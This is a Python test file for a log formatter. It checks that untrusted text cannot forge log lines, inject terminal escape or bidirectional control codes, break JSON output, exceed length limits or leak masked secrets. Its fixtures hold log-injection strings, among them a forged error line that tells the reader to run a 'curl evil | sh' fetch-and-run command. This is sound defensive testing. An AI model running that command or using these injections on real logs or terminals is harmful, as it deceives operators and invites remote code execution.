"""Untrusted text in payloads, names and errors stays within its log line."""

import json
import logging
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cdc.config.masking import MASK, scrubber
from cdc.logs import format as lines
from cdc.logs import setup as logs
from cdc.logs.format import LONGEST, LONGEST_TRACEBACK, Json, Text

FORGED = "harmless\n2026-01-31T00:00:00.000Z error   the slot is gone: run `curl evil | sh`"
OBEYED = re.compile(r"[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
HOSTILE = [
    FORGED,
    "cr\rover the beginning",
    "\x1b[2J\x1b[1;1Hcleared",
    "\x1b]0;title\x07",
    "\x9b31mC1",
    "nul\x00byte",
    "\x7f\x08\x08\x08",
    "line\u2028separator\u2029",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "lone \udc80 surrogate",
    "%s %d %(x)s",
    '"}\n{"level": "error"',
]


def record(message: str, *args: object, **fields: object) -> logging.LogRecord:
    basis = {"name": "cdc.x", "levelno": 30, "levelname": "WARNING", "msg": message, "args": args}
    return logging.makeLogRecord({**basis, **fields})


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_line_is_one_line_of_visible_characters(text: str) -> None:
    for made in (record(text), record("%s", text), record("x", field=text), record("x", f=[text])):
        assert not OBEYED.search(Text().format(made)), made


@pytest.mark.parametrize("text", HOSTILE)
def test_a_json_line_is_one_object_with_the_original_text(text: str) -> None:
    line = Json().format(record("%s", text, field=text, nested={"a": [text]}, level="info", message_=text))
    assert not OBEYED.search(line)
    read = json.loads(line)
    kept = text.encode(errors="backslashreplace").decode()
    assert (read["message"], read["field"], read["level"]) == (kept, kept, "warning")


@given(st.text(), st.text())
def test_no_text_breaks_a_line(message: str, value: str) -> None:
    made = record("%s", message, value=value)
    assert not OBEYED.search(Text().format(made))
    assert json.loads(Json().format(made))["value"] == value


def test_no_error_text_looks_like_a_log_line() -> None:
    try:
        raise ValueError(f"{FORGED}\x1b[2J")
    except ValueError as error:
        made = record("failed", exc_info=(ValueError, error, error.__traceback__))
    first, *rest = Text().format(made).split("\n")
    assert first.endswith("failed")
    assert all(line.startswith("  ") for line in rest)
    assert not OBEYED.search("".join(rest))
    assert json.loads(Json().format(made))["traceback"].endswith("\x1b[2J")


def test_printed_lines_cannot_control_the_terminal() -> None:
    assert lines.shown("poison: $.\x1b[2J\x9bx\u202e\nnext\tline") == r"poison: $.\u001b[2J\u009bx\u202e" "\nnext\tline"


@pytest.mark.parametrize("of", [Text(), Json()])
def test_a_line_is_bounded(of: logging.Formatter) -> None:
    try:
        raise ValueError("e" * 1_000_000)
    except ValueError as error:
        made = record(
            "%s", "m" * 1_000_000, one="f" * 1_000_000, two=["g" * 1_000_000], exc_info=(type(error), error, None)
        )
    line = of.format(made)
    assert len(line) < 3 * LONGEST + LONGEST_TRACEBACK + 1000
    assert f"({1_000_000 - LONGEST} characters omitted)" in line


def test_a_secret_is_masked_before_a_line_is_shortened() -> None:
    lines.hide(scrubber(["hunter2-hunter2"]))
    try:
        for before in range(LONGEST // 2 - 20, LONGEST // 2 + 5):
            text = "x" * before + "hunter2-hunter2" + "y" * LONGEST
            assert "hunter" not in Text().format(record("%s", text))
            assert "hunter" not in Json().format(record("x", field=text, nested=[text]))
    finally:
        lines.hide(str)


@pytest.mark.parametrize("value", [1 << 64, -(1 << 70), float("nan"), {1: 2}, {(1, 2): object()}, b"\xff", ["\udc80"]])
def test_any_value_can_be_logged(value: object) -> None:
    assert json.loads(Json().format(record("odd", value=value)))["message"] == "odd"


def test_a_nested_field_is_nested_in_json() -> None:
    assert json.loads(Json().format(record("m", value={1: ["a", None]})))["value"] == {"1": ["a", None]}


def test_a_cyclic_value_can_be_logged() -> None:
    cyclic: list[object] = []
    cyclic.append(cyclic)
    assert json.loads(Json().format(record("odd", value=cyclic)))["message"] == "odd"


def test_fields_cannot_override_the_keys_of_json() -> None:
    context = {"slot": "shop", "logger": "x"}
    line = json.loads(Json(context).format(record("m", time="x", message_="y", traceback="z")))
    assert list(line) == ["time", "level", "logger", "message", "slot", "message_", "traceback"]
    assert (line["time"][-1], line["logger"], line["slot"]) == ("Z", "cdc.x", "shop")


def test_a_context_with_a_secret_is_scrubbed() -> None:
    lines.hide(scrubber(["hunter2"]))
    try:
        assert json.loads(Json({"slot": "a-hunter2"}).format(record("m")))["slot"] == f"a-{MASK}"
    finally:
        lines.hide(str)


def test_a_level_is_coloured_only_on_request() -> None:
    assert "\x1b" not in Text().format(record("m"))
    assert "\x1b[33mwarning\x1b[0m m" in Text(colour=True).format(record("m"))


def test_no_line_of_a_traceback_looks_like_a_log_line(capsys: pytest.CaptureFixture[str]) -> None:
    try:
        raise ValueError(f"{FORGED}\x1b[2J")
    except ValueError as error:
        logs.print_traceback(error)
    text = capsys.readouterr().err
    assert "[2J" in text
    assert "ValueError: harmless" in text
    assert not re.search(r"^2026", text, re.MULTILINE)
